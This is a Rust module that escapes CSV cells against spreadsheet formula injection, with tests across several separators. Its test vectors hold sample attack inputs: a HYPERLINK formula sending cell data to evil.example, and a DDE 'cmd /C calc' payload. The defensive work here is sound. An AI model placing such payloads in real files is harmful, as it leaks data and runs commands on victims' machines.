//! CSV cells (RFC 4180), as every export writes them. The text of users and partners must not break a row, and no
//! spreadsheet may take it for a formula, whatever it takes for a separator.

/// Characters that end a cell in some spreadsheet. A German one splits at semicolons, also within our quotes.
const SEPARATORS: [char; 6] = [',', ';', '\t', '|', '\n', '\r'];

/// Returns a table: a line of names, and a line for each row.
pub fn table<const COLUMNS: usize>(names: &str, rows: impl Iterator<Item = [String; COLUMNS]>) -> String {
    let line = |row: [String; COLUMNS]| row.map(|text| cell(&text)).join(",") + "\r\n";
    format!("{names}\r\n") + &rows.map(line).collect::<String>()
}

/// Returns a cell. Puts an apostrophe before each part that a spreadsheet would calculate
/// (<https://owasp.org/www-community/attacks/CSV_Injection>). Leaves numbers as they are, including telephone numbers.
pub fn cell(text: &str) -> String {
    let mut cell = String::with_capacity(text.len() + 2);
    for (index, part) in text.split_inclusive(SEPARATORS).enumerate() {
        if is_formula(part) || (index == 0 && part.starts_with(['\t', '\r'])) {
            cell.push('\'');
        }
        cell.push_str(part);
    }
    if cell.contains([',', '"', '\n', '\r', ';', '\t']) { format!("\"{}\"", cell.replace('"', "\"\"")) } else { cell }
}

/// Returns the text of a cell that was read, without the apostrophes of [`cell`] and without those at its beginning.
pub fn text(cell: &str) -> String {
    let parts = cell.trim_start_matches('\'').split_inclusive(SEPARATORS);
    parts.map(|part| part.strip_prefix('\'').filter(|rest| is_formula(rest)).unwrap_or(part)).collect()
}

/// True if a spreadsheet would calculate a part of a cell. Some skip blanks and quotes, or take the wide signs.
fn is_formula(part: &str) -> bool {
    let part = part.trim_end_matches(SEPARATORS);
    let part = part.trim_start_matches(|character: char| character.is_whitespace() || character == '"');
    let is_number = |rest: &str| !rest.is_empty() && rest.chars().all(|c| c.is_ascii_digit() || " ().".contains(c));
    match part.chars().next() {
        Some('=' | '@' | '＝' | '＠' | '＋' | '－') => true,
        Some('+' | '-') => !is_number(&part[1..]),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_cell_breaks_its_row_or_is_taken_for_a_formula() {
        for (text, written) in [
            ("DHL", "DHL"),
            ("", ""),
            ("a,\"b\"", "\"a,\"\"b\"\"\""),
            ("a;b", "\"a;b\""),
            ("=HYPERLINK(\"https://evil.example/?\"&A1)", "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1)\""),
            ("@SUM(1)", "'@SUM(1)"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("+1+1", "'+1+1"),
            ("+", "'+"),
            ("+44-20-7946-0958", "'+44-20-7946-0958"),
            ("+49/30/1234", "'+49/30/1234"),
            ("+44 (20) 7946 0958", "+44 (20) 7946 0958"),
            ("-5", "-5"),
        ] {
            assert_eq!(cell(text), written);
        }
    }

    /// The cells that a spreadsheet with that separator makes of a text.
    fn opened(text: &str, separator: u8) -> Vec<String> {
        let mut reader = csv_core::ReaderBuilder::new().delimiter(separator).build();
        let (mut cells, mut cell, mut input) = (Vec::new(), Vec::new(), text.as_bytes());
        loop {
            let mut output = [0; 256];
            let (result, read, written) = reader.read_field(input, &mut output);
            input = &input[read..];
            cell.extend_from_slice(&output[..written]);
            match result {
                csv_core::ReadFieldResult::Field { .. } => {
                    cells.push(String::from_utf8(std::mem::take(&mut cell)).unwrap())
                }
                csv_core::ReadFieldResult::End => return cells,
                _ => {}
            }
        }
    }

    /// Source: `;=1` was left as it is, and a German spreadsheet made a formula of it.
    #[test]
    fn no_spreadsheet_reckons_whatever_it_takes_for_a_separator() {
        let evil = [
            ";=1",
            "a;=1",
            "a; =1",
            "\";=1;\"",
            ";\"=1\"",
            "a;\"\";=1",
            "a\t=1",
            "a\n=1",
            "a\r\n=1;=2",
            ",=1",
            "|=1",
            ";+1+1",
            ";-1+1",
            ";@SUM(1)",
            "\"=1",
            ";=cmd|' /C calc'!A0",
            "＝1",
        ];
        for written in evil {
            let row = format!("id,{},{},end\r\nid,x,{},y\r\n", cell(written), cell("x"), cell(written));
            for separator in *b",;\t|" {
                for cell in opened(&row, separator) {
                    assert!(
                        !cell.starts_with(['=', '+', '-', '@', '＝']),
                        "{written:?} at {:?}: {cell:?}",
                        separator as char
                    );
                }
            }
            // Reading the cell as it was written gives back the original text.
            assert_eq!(text(&opened(&row, b',')[1]), written);
        }
        assert_eq!(cell(";=1"), "\";'=1\"");
        assert_eq!(cell("tel; +49 30 1234"), "\"tel; +49 30 1234\"");
        assert_eq!(text("'00340434"), "00340434");
        assert_eq!(text("it's; 'x'"), "it's; 'x'");
    }
}
